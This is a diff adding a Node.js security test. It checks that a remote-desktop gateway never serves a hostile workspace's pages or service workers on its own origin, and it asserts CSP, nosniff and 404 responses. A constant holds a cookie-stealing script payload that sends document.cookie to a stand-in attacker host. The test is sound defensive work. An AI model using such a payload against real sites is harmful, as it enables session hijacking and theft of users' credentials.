@@ -1,0 +1,96 @@
+/**
+ * Attack (issue 16, item 1): a workspace user replaces the desktop's web server and waits for an admin to open the
+ * desktop. Whatever it serves (a page with a script, a service worker) must never be served on the gateway's
+ * origin: the gateway serves its own copy of the web client and only relays the RFB stream.
+ */
+import assert from 'node:assert/strict';
+import http, { type IncomingHttpHeaders } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { after, before, describe, it } from 'node:test';
+import { MemoryRuntime } from '../helpers/memory-runtime.js';
+import { DATABASES, startTestGateway, type TestGateway } from '../helpers/test-gateway.js';
+
+const EVIL = '<script>fetch("https://attacker.example/?t="+document.cookie)</script>';
+
+function get(
+  url: string,
+  path: string,
+  token: string,
+): Promise<{ status: number; headers: IncomingHttpHeaders; body: string }> {
+  const { hostname, port } = new URL(url);
+  return new Promise((resolve, reject) => {
+    const request = http.request(
+      { host: hostname, port, path, headers: { authorization: `Bearer ${token}` } },
+      (response) => {
+        let body = '';
+        response.on('data', (chunk) => (body += chunk));
+        response.on('end', () =>
+          resolve({ status: response.statusCode ?? 0, headers: response.headers, body }),
+        );
+      },
+    );
+    request.on('error', reject);
+    request.end();
+  });
+}
+
+describe('attack: the workspace serves its own desktop page', () => {
+  let t: TestGateway;
+  let hostile: http.Server;
+  const asked: string[] = [];
+
+  before(async () => {
+    // The workspace's "websockify", replaced by its user: every path answers with a script.
+    hostile = http.createServer((request, response) => {
+      asked.push(request.url ?? '');
+      const script = (request.url ?? '').endsWith('.js');
+      response.writeHead(200, {
+        'content-type': script ? 'text/javascript' : 'text/html',
+        'service-worker-allowed': '/',
+      });
+      response.end(script ? 'self.addEventListener("fetch", () => {});' : EVIL);
+    });
+    await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
+    const runtime = new MemoryRuntime();
+    runtime.desktopEndpoint = { host: '127.0.0.1', port: (hostile.address() as AddressInfo).port };
+    t = await startTestGateway(DATABASES[0]!, {}, runtime);
+    await t.listen();
+  });
+  after(async () => {
+    await t.close();
+    hostile.close();
+  });
+
+  it('never serves a page, script or service worker of the workspace on the gateway origin', async () => {
+    const user = await t.createUser('mallory');
+    const exit = await t.request('POST', '/v1/admin/egress-ips', {
+      body: {
+        label: 'exit',
+        ip_address: '198.51.100.31',
+        proxy_config: { type: 'socks', server: '198.51.100.31', server_port: 1080, version: '5' },
+      },
+    });
+    const host = await t.request('POST', '/v1/admin/hosts', {
+      body: { user_id: user.id, egress_ip_id: exit.body.id },
+    });
+    await t.request('POST', `/v1/admin/hosts/${host.body.id}/start`);
+    await t.gateway.tasks.idle();
+    const base = `/v1/admin/hosts/${host.body.id}/vnc`;
+
+    const page = await get(t.url, `${base}/vnc.html`, t.adminToken);
+    assert.equal(page.status, 200);
+    assert.ok(!page.body.includes('attacker.example'), 'the workspace page is not served');
+    const csp = String(page.headers['content-security-policy']);
+    assert.match(csp, /default-src 'none'/);
+    assert.match(csp, /script-src 'self'/);
+    assert.equal(page.headers['x-content-type-options'], 'nosniff');
+    assert.equal(page.headers['service-worker-allowed'], undefined);
+
+    for (const path of ['sw.js', 'app/ui.js', 'index.html', 'websockify.html']) {
+      const answer = await get(t.url, `${base}/${path}`, t.adminToken);
+      assert.equal(answer.status, 404, `${path} answered ${answer.status}`);
+      assert.ok(!answer.body.includes('addEventListener("fetch"'), `${path} is not the workspace's script`);
+    }
+    assert.deepEqual(asked, [], 'the workspace was never asked for a file');
+  });
+});
